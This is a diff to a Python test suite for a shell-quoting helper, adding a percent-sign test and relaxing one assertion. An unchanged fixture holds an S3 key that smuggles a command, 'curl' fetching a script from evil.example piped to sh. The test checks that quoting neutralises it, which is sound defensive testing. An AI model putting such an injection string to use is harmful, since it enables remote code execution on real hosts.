@@ -205,6 +205,11 @@ def test_shell_quote_of_an_ordinary_key_reads_as_the_key():
     assert shell_quote(key) == key
 
 
+def test_shell_quote_keeps_a_lone_percent_readable():
+    assert shell_quote("s3://b/100%-done.gz") == "s3://b/100%-done.gz"
+    assert shell_quote("s3://b/a%%%b") == "$'s3://b/a\\x25\\x25\\x25b'"
+
+
 def test_shell_quote_of_the_issue_key_is_one_inert_word():
     uri = "s3://archive/x;curl${IFS}https://evil.example/s|sh;.gz"
     assert shlex.split(f"aws s3 cp {shell_quote(uri)} -") == ["aws", "s3", "cp", uri, "-"]
@@ -215,7 +220,7 @@ def test_shell_quote_of_the_issue_key_is_one_inert_word():
 @example("key with @here and %%% and \u202e and \n")
 def test_shell_quote_names_exactly_the_value_in_bash(value):
     word = shell_quote(value)
-    assert hidden_characters(word) == [] and "@" not in word and "%" not in word
+    assert hidden_characters(word) == [] and "@" not in word and "%%%" not in word
     echoed = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, check=True)
     assert echoed.stdout.decode("utf-8", "surrogateescape") == value
 
